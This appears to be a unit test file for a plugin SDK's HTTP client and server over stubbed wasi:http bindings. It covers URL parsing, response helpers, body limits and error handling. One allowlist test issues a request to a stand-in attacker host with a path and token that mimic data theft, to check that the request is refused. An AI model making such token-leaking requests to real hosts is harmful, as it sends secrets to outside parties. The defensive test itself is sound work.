"""The HTTP client and server over stubbed wasi:http bindings; URLs and messages."""

from __future__ import annotations

import unittest

from _http_stub import METHODS, HttpStub, InternalErrorCode, ResponseOut
from _support import FakeWorld, WorldTestCase

import plinth_sdk
from plinth_sdk import CapabilityError, InvalidPayload, Plugin, http
from plinth_sdk.http import HttpError, IncomingRequest, Response, parse_url


class UrlTest(unittest.TestCase):
    def test_splits_a_full_url(self):
        target = parse_url("https://API.example.com:8443/v1/items?x=1#top")
        self.assertTrue(target.https)
        self.assertEqual(target.authority, "API.example.com:8443")
        self.assertEqual(target.host, "api.example.com")
        self.assertEqual(target.path_with_query, "/v1/items?x=1")

    def test_defaults_the_path_to_slash(self):
        self.assertEqual(parse_url("http://example.com").path_with_query, "/")
        self.assertEqual(parse_url("http://example.com?q=1").path_with_query, "/?q=1")
        self.assertFalse(parse_url("HTTP://example.com").https)
        self.assertEqual(parse_url("http://[::1]:8080/x").host, "[::1]")

    def test_refuses_what_it_cannot_send_without_echoing_secrets(self):
        for url in (
            "example.com/x",
            "ftp://example.com/",
            "https:///path",
            "https://exa mple.com/",
        ):
            with self.assertRaises(HttpError) as caught:
                parse_url(url)
            self.assertEqual(caught.exception.reason, "invalid-url", url)
        with self.assertRaises(HttpError) as caught:
            parse_url("https://user:hunter2@example.com/hook?token=s3cret")
        self.assertNotIn("hunter2", str(caught.exception))
        self.assertNotIn("s3cret", str(caught.exception))


class MessageTest(unittest.TestCase):
    def test_response_helpers(self):
        response = Response.from_json(
            {"ok": True}, status=201, headers={"Content-Type": "x", "x-id": "1"}
        )
        self.assertEqual(response.body, b'{"ok":true}')
        self.assertEqual(response.headers, [("x-id", "1"), ("content-type", "application/json")])
        self.assertEqual(response.header("CONTENT-TYPE"), "application/json")
        self.assertEqual(response.json(), {"ok": True})
        self.assertTrue(response.ok)
        self.assertFalse(Response(404).ok)
        self.assertEqual(Response(200, body="é").body, "é".encode())
        self.assertEqual(
            Response.from_text("hi").header("content-type"), "text/plain; charset=utf-8"
        )
        broken = Response.from_json({1, 2})
        self.assertEqual(broken.status, 500)
        self.assertIn(b"cannot serialize", broken.body)
        with self.assertRaises(HttpError) as caught:
            Response(body=b"\xff").text()
        self.assertEqual(caught.exception.reason, "decode")

    def test_incoming_request_helpers(self):
        request = IncomingRequest("POST", "/items?page=2", [("X-A", "1")], b'{"a": 1}')
        self.assertEqual(request.path, "/items")
        self.assertEqual(request.query, "page=2")
        self.assertEqual(request.header("x-a"), "1")
        self.assertEqual(request.json(), {"a": 1})
        self.assertIsNone(IncomingRequest("GET", "/").query)
        with self.assertRaises(InvalidPayload):
            IncomingRequest("POST", "/", body=b"{").json()


class ClientTest(WorldTestCase):
    def test_a_post_sends_method_target_headers_and_body_then_reads_the_response(self):
        stub = HttpStub()
        stub.response = (201, [("content-type", b"application/json")], b'{"id": 7}' * 20000)
        with FakeWorld(http=stub, types_name="plinth_plugin_types"):
            response = http.post_json(
                "https://hooks.example.com/notify?k=1",
                {"text": "é" * 5000},
                headers={"x-src": "p"},
                timeout=2.5,
            )
        self.assertEqual(response.status, 201)
        self.assertEqual(response.header("content-type"), "application/json")
        self.assertEqual(len(response.body), len(b'{"id": 7}') * 20000)
        sent = stub.sent
        self.assertEqual(type(sent["method"]).__name__, "Method_Post")
        self.assertEqual(sent["scheme"], "Scheme_Https")
        self.assertEqual((sent["authority"], sent["path"]), ("hooks.example.com", "/notify?k=1"))
        body = ('{"text":"' + "é" * 5000 + '"}').encode()
        self.assertEqual(sent["body"], body)
        self.assertTrue(sent["body finished"])
        self.assertEqual(
            sent["headers"],
            [
                ("x-src", b"p"),
                ("content-type", b"application/json"),
                ("content-length", str(len(body)).encode()),
            ],
        )
        self.assertEqual(stub.options, {"connect": 2_500_000_000, "first-byte": 2_500_000_000})
        # The host got the request before its body was written, waited once, and every
        # resource was dropped, children first (the stub checks the order).
        self.assertEqual(stub.log[0], "handle")
        self.assertIn("block", stub.log)
        for resource in (
            "input-stream",
            "incoming-body",
            "incoming-response",
            "future-incoming-response",
        ):
            self.assertIn(f"drop {resource}", stub.log)
        self.assertLess(
            stub.log.index("drop incoming-response"),
            stub.log.index("drop future-incoming-response"),
        )

    def test_methods(self):
        for name in METHODS:
            stub = HttpStub()
            with FakeWorld(http=stub):
                http.request(name.lower(), "http://a.example/")
            self.assertEqual(type(stub.sent["method"]).__name__, f"Method_{name}")
        stub = HttpStub()
        with FakeWorld(http=stub):
            http.request("PROPFIND", "http://a.example/", timeout=None)
        self.assertEqual(stub.sent["method"].value, "PROPFIND")
        self.assertEqual(stub.options, {})
        self.assertEqual(stub.sent["headers"], [])  # a GET-like call with no body: no length
        with FakeWorld(http=HttpStub()), self.assertRaises(HttpError) as caught:
            http.request("GET X", "http://a.example/")
        self.assertEqual(caught.exception.reason, "invalid-request")

    def test_a_host_off_the_allowlist_is_a_capability_error_naming_host_and_code(self):
        stub = HttpStub()
        stub.response = stub.types.ErrorCode_HttpRequestDenied()
        with FakeWorld(http=stub), self.assertRaises(HttpError) as caught:
            http.get("https://evil.example.org/steal?token=s3cret")
        err = caught.exception
        self.assertIsInstance(err, CapabilityError)
        self.assertEqual(
            (err.reason, err.code, err.host), ("refused", "http-request-denied", "evil.example.org")
        )
        self.assertIn("`evil.example.org` (http-request-denied)", str(err))
        self.assertIn("permissions.http.hosts", str(err))
        self.assertNotIn("s3cret", str(err))
        self.assertIn("drop future-incoming-response", stub.log)

    def test_transport_failures_carry_their_code(self):
        stub = HttpStub()
        stub.refuse_at_handle = stub.types.ErrorCode_ConnectionRefused()
        with FakeWorld(http=stub), self.assertRaises(HttpError) as caught:
            http.post("http://api.example.com:81/x", "hi")
        self.assertEqual(
            (caught.exception.reason, caught.exception.code), ("failed", "connection-refused")
        )
        self.assertEqual(
            str(caught.exception),
            "http POST http://api.example.com:81: the request to `api.example.com` failed: "
            "connection-refused",
        )
        stub = HttpStub()
        stub.response = InternalErrorCode("no route")
        with FakeWorld(http=stub), self.assertRaises(HttpError) as caught:
            http.get("http://api.example.com/")
        self.assertTrue(str(caught.exception).endswith("failed: internal-error: no route"))

    def test_the_response_body_is_capped(self):
        stub = HttpStub()
        stub.response = (200, [], b"x" * 70_000)
        with FakeWorld(http=stub), self.assertRaises(HttpError) as caught:
            http.get("http://api.example.com/big", max_response_bytes=1000)
        self.assertEqual(caught.exception.reason, "too-large")
        self.assertEqual(caught.exception.host, "api.example.com")
        self.assertIn("the response body is over the 1000-byte limit", str(caught.exception))
        # The stream went before its body, the body before the response.
        self.assertLess(stub.log.index("drop input-stream"), stub.log.index("drop incoming-body"))
        self.assertLess(
            stub.log.index("drop incoming-body"), stub.log.index("drop incoming-response")
        )

    def test_forbidden_headers_and_bad_bodies(self):
        with FakeWorld(http=HttpStub()), self.assertRaises(HttpError) as caught:
            http.get("http://a.example/", headers={"connection": "close"})
        self.assertIn("the host refuses the headers (forbidden)", str(caught.exception))
        with FakeWorld(http=HttpStub()), self.assertRaises(HttpError):
            http.request("POST", "http://a.example/", body="x", json={"a": 1})
        with FakeWorld(http=HttpStub()), self.assertRaises(ValueError):
            http.get("http://a.example/", timeout=0)

    def test_a_closed_request_body_is_reported_after_the_response(self):
        stub = HttpStub()
        stub.close_request_body = True
        with FakeWorld(http=stub), self.assertRaises(HttpError) as caught:
            http.post("http://a.example/", "data")
        self.assertEqual(
            str(caught.exception),
            "http POST http://a.example: the request body was closed by the peer",
        )

    def test_without_the_permission(self):
        with FakeWorld(), self.assertRaises(CapabilityError) as caught:
            http.get("https://hooks.example.com/")
        self.assertIn('[permissions] http = { hosts = ["<host>"] }', str(caught.exception))


class Echo(Plugin):
    def on_request(self, request):
        if request.path == "/fail":
            raise RuntimeError("secret detail")
        if request.path == "/json":
            return Response.from_json(request.json())
        if request.path == "/not-a-response":
            return {"oops": True}
        return Response.from_json(
            {"method": request.method, "path": request.path_with_query, "body": request.text()}
        )


class ServerTest(WorldTestCase):
    def serve(self, plugin, method="Post", path="/hello?x=1", body=b"hi", headers=()):
        stub = HttpStub()
        _, _, incoming = plinth_sdk.export(plugin)
        request = stub.types.IncomingRequest(
            getattr(stub.types, f"Method_{method}")(), path, list(headers), body
        )
        out = ResponseOut()
        with FakeWorld(http=stub, types_name="plinth_plugin_types") as world:
            incoming().handle(request, out)
        response = out.response
        return (
            response.status,
            dict(response.headers_.entries()),
            bytes(response.body_.data),
            stub,
            world,
        )

    def test_echo(self):
        status, headers, body, stub, _ = self.serve(Echo, headers=[("x-a", b"1")])
        self.assertEqual(status, 200)
        self.assertEqual(headers["content-type"], b"application/json")
        self.assertEqual(body, b'{"method":"POST","path":"/hello?x=1","body":"hi"}')
        self.assertIn("drop incoming-request", stub.log)
        self.assertLess(stub.log.index("response set"), stub.log.index("drop response-body"))

    def test_a_bad_request_body_is_a_400(self):
        status, _, body, _, _ = self.serve(Echo, path="/json", body=b"{")
        self.assertEqual(status, 400)
        self.assertTrue(body.startswith(b"the request body is not JSON"))

    def test_a_crash_is_a_500_that_does_not_leak_its_message(self):
        status, _, body, _, world = self.serve(Echo, path="/fail")
        self.assertEqual(status, 500)
        self.assertEqual(body, b"the plugin failed to handle the request (RuntimeError)")
        [(level, message, fields)] = world.log.lines
        self.assertEqual((level, message), ("error", "on_request failed"))
        self.assertIn("RuntimeError: secret detail", dict(fields)["exception"])

    def test_a_handler_must_return_a_response(self):
        status, _, body, _, _ = self.serve(Echo, path="/not-a-response")
        self.assertEqual(status, 500)
        self.assertIn(b"TypeError", body)

    def test_the_default_on_request_is_404(self):
        status, _, _, _, _ = self.serve(Plugin, method="Get", path="/")
        self.assertEqual(status, 404)

    def test_an_oversized_body_is_a_413(self):
        from plinth_sdk.http import _server

        saved = _server.MAX_REQUEST_BODY_BYTES
        _server.MAX_REQUEST_BODY_BYTES = 10
        try:
            status, _, body, _, _ = self.serve(Echo, body=b"x" * 11)
        finally:
            _server.MAX_REQUEST_BODY_BYTES = saved
        self.assertEqual(status, 413)
        self.assertIn(b"over the 10-byte limit", body)


if __name__ == "__main__":
    unittest.main()
